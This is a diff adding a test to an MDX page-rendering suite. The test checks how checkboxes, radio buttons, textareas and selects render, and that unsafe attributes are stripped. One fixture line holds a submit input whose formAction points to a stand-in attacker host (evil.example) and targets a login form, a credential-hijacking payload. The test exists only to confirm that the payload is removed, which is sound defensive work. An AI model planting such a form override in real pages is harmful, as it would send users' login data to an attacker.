@@ -452,6 +452,34 @@ describe('MDX pages', () => {
     expect(page.html).toContain('scrolling="no"');
   });
 
+  test("form controls render as Docusaurus renders them, a checklist's boxes a reader ticks and a box to paste into (prysm's)", async () => {
+    const page = await mdx(
+      [
+        '<div className="task"><input id="tc-1" type="checkbox" defaultChecked /><label htmlFor="tc-1">Select a configuration</label></div>',
+        '',
+        '<input type="radio" name="os" value="linux" /> <input type="Submit" formAction="https://evil.example/x" form="login" />',
+        '',
+        '<textarea id="el-cmd" rows="3" placeholder="Paste the command here" defaultValue="geth" />',
+        '',
+        '<select name="net" defaultValue="main"><option value="main">Mainnet</option><option value="test">Testnet</option></select>',
+        '',
+      ].join('\n'),
+    );
+    expect(page.html).toContain('<input id="tc-1" type="checkbox" checked><label for="tc-1">Select a configuration</label>');
+    expect(page.html).toContain('<input type="radio" name="os" value="linux">');
+    // no type that submits, nor a form it would submit: a text box
+    expect(page.html).toContain('<input>');
+    expect(page.html).not.toMatch(/evil|form=|formaction/i);
+    expect(page.html).toContain('<textarea id="el-cmd" rows="3" placeholder="Paste the command here">geth</textarea>');
+    expect(page.html).toContain('<select name="net"><option value="main">Mainnet</option><option value="test">Testnet</option></select>');
+    expect(page.diagnostics.map((d) => d.message).sort()).toEqual([
+      expect.stringMatching(/^`formAction` on <input> is not rendered/),
+      expect.stringMatching(/^`form` on <input> is not rendered/),
+      expect.stringMatching(/^`value` on <select> is not rendered/),
+      'type="Submit" on <input> is dropped, so it is a text box: expected one of checkbox, radio, text, search, number, range, color, date, time, email, url, tel',
+    ]);
+  });
+
   test('a leading h1 becomes the title, with the id a link to it names', async () => {
     expect((await renderPage('# Redux Ecosystem\n\nText.\n')).titleId).toBe('redux-ecosystem');
     expect((await renderPage('# Ecosystem {#eco}\n\nText.\n')).titleId).toBe('eco');
